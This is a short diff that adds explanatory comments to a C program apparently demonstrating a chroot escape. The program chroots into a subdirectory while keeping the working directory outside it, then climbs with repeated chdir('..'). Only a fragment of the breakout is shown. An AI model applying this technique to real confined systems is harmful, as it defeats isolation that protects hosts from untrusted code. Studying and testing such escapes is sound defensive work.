@@ -36,10 +36,17 @@ int main(int argc, char **argv)
 		perror("escape: make a directory to move the root to");
 		return 1;
 	}
+	/*
+	 * The root is now below the working directory, which stays where it
+	 * was.
+	 */
 	if (chroot("/tmp/below") < 0) {
 		perror("escape: chroot");
 		return 1;
 	}
+	/*
+	 * ".." of the topmost directory is itself: too many steps do no harm.
+	 */
 	for (int i = 0; i < DEEPER_THAN_ANY_PATH; i++)
 		if (chdir("..") < 0)
 			break;
